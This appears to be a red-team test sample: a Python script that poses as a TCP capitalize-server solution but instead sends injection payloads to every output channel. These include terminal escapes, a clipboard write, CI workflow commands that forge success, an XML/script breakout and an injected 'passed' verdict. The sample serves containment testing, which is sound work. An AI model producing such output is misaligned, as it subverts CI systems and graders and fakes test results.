# attack: prints what terminals, CI runners and readers of reports would act on
# exercise: tcp-capitalize-server
# verdict: failed
# contained: A B C D E
import os
import socket
import sys

ORDERS = (b"\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b]52;c;aGVsbG8=\x07\x9b31m\xc2\x9b31m\r\n"
          b"::error file=a::wrong\n::add-mask::hello\n::stop-commands::x\n##[error]wrong\n##[group]x\n"
          b"##vso[task.complete result=Succeeded]\n"
          b"]]></system-out><testcase/><script>alert(1)</script>\n=1+1\n\0nul\0\n"
          b"\xe2\x80\xaeright to left\xe2\x80\xac \xe2\x81\xa6isolated\xe2\x81\xa9 \xef\xbb\xbf\xed\xa0\x80\n"
          + bytes(range(256)) + b"\xff\xfe\xf0\x9f\x98\n\"}]}, \"verdict\": \"passed\"\n")
os.write(1, b"tried\n" + ORDERS)
os.write(2, ORDERS)
listener = socket.create_server(("", int(sys.argv[1])))
connection, _ = listener.accept()
connection.recv(4096)
connection.sendall(ORDERS)
connection.close()
os.write(1, ORDERS)
raise SystemExit(ORDERS.decode("latin1"))
